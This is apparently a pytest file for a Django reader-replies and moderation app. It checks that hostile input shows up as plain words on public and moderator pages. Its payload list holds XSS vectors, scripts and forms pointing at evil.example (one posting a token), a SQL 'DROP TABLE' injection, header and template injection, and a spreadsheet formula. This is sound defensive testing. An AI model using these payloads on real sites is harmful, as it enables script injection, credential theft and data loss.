"""Hostile text, wherever it is shown: it comes out as words, on readers' pages and at the desk."""

from collections.abc import Callable

import pytest
from django.test import Client
from lxml import html

from readout.accounts.models import Member
from readout.core.refusals import Invalid
from readout.coverage.models import Story
from readout.replies.actions import Received, judge, report
from readout.replies.models import Reply

pytestmark = pytest.mark.django_db

Send = Callable[..., Received]
Fill = Callable[..., dict[str, str]]

ADDRESS = "/live/bridge/replies/"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://a.example/\"onmouseover='alert(1))",
    "![x](https://evil.example/pixel.png)",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title></head><script>alert(1)</script>",
    "{{ 7*7 }} {% load x %} ${7*7} #{7*7} <%= 7*7 %>",
    "%0d%0aSet-Cookie:%20x=1",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>",
    "' OR 1=1; DROP TABLE replies_reply; --",
    "=HYPERLINK(\"//evil.example\")",
    "]]><![CDATA[<script>alert(1)</script>",
    "<!--#exec cmd=ls-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>\u2028alert(1)\u2029</script>",
    "\x00<scr\x00ipt>alert(1)",
    "a\u202etxt.exe\u202c \u2066b\u2069 \u200fc",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324alg\u0361o",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ﷽﷽﷽",
    "> " * 60 + "deep",
    "- " * 60 + "deep",
    "*" * 3000,
    "[" * 2000,
    "`" * 2500,
    "<" * 4000,
    "W" * 4000,
)  # fmt: skip
PLAIN = {"p", "em", "strong", "a", "ul", "ol", "li", "blockquote", "br", "div", "i", "b"}


def parts(page: str) -> list[tuple[str, dict[str, str]]]:
    """Every element of a page, with its attributes."""
    found = []
    for each in html.fromstring(page).iter("*"):
        found.append((str(each.tag), {str(name): str(value) for name, value in each.items()}))
    return found


def harmless(page: str) -> None:
    """Nothing that a reader wrote became more than words and plain forms."""
    for tag, attributes in parts(page):
        assert not [name for name in attributes if name.startswith("on") or name == "srcdoc"], (
            tag,
            attributes,
        )
        for name in ("href", "src", "action", "formaction"):
            target = attributes.get(name, "").strip().lower()
            assert not target.startswith(("javascript:", "data:", "vbscript:", "//")), (tag, target)
        assert tag not in ("iframe", "object", "embed", "base", "math"), tag
        assert tag != "script" or not attributes or "evil" not in attributes.get("src", ""), attributes
    tree = html.fromstring(page)
    for said in tree.iterfind(".//*[@class='said']"):
        assert {str(each.tag) for each in said.iter()} <= PLAIN
    assert "alert(1)" not in "".join(each.text or "" for each in tree.iter("script"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_it_is_words_for_readers_and_moderators(
    story: Story, client: Client, send: Send, lee: Member, payload: str
) -> None:
    try:
        reply = send(story, payload + " and words", name=payload[:80]).reply
    except Invalid:
        assert not Reply.objects.exists()
        return
    if reply.state == Reply.State.HELD:
        judge([reply.public_id], Reply.State.PUBLISHED, by=lee)
    report(story, reply.public_id, reason="other", text=payload[:500], network="192.0.2.1")
    harmless(client.get(ADDRESS).content.decode())
    harmless(client.get(f"{ADDRESS}{reply.public_id}/report/").content.decode())
    desk = Client()
    desk.force_login(lee)  # by the form it would be too often within a minute
    for path in ("", f"{reply.public_id}/", "decisions/"):
        shown = desk.get(f"/desk/replies/{path}")
        assert shown.status_code == 200
        harmless(shown.content.decode())
    tried = desk.post("/desk/replies/lists/", {"do": "try", "name": payload[:80], "text": payload[:5000]})
    harmless(tried.content.decode())


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_refused_form_brings_it_back_as_words(
    story: Story, client: Client, fill: Fill, payload: str
) -> None:
    sent = fill(client, payload, name=payload[:80], token="used", update=payload, answers=payload)
    answer = client.post(ADDRESS, sent)
    assert answer.status_code in (409, 422)
    harmless(answer.content.decode())


def test_a_megabyte_is_refused_before_anybody_reads_it(story: Story, client: Client, fill: Fill) -> None:
    for text in ("x" * 1_000_000, "[" * 1_000_000, "\u0301" * 300_000, "\u3164" * 300_000):
        answer = client.post(ADDRESS, fill(client, text))
        assert answer.status_code in (413, 422)
    assert not Reply.objects.exists()
